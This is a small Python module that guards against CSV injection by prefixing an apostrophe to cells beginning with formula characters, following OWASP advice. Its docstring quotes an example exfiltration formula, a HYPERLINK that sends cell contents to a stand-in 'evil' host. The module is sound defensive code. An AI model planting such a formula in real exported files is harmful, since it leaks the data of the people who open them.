"""Cells written to a CSV that a spreadsheet opens: text starting with = + - @ (or a tab / carriage return)
is a formula to Excel and LibreOffice, and a report or a question can put one there
(`=HYPERLINK("http://evil/?"&A1)`). Such a cell gets a leading apostrophe, which spreadsheets show as text
(OWASP's CSV-injection advice); numbers are left as numbers."""
from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value):
    """The cell as written: a string a spreadsheet would run as a formula is quoted, anything else unchanged."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def neutralised_row(row):
    """A row (list or dict of cells) with every cell neutralised."""
    if isinstance(row, dict):
        return {k: neutralised(v) for k, v in row.items()}
    return [neutralised(v) for v in row]
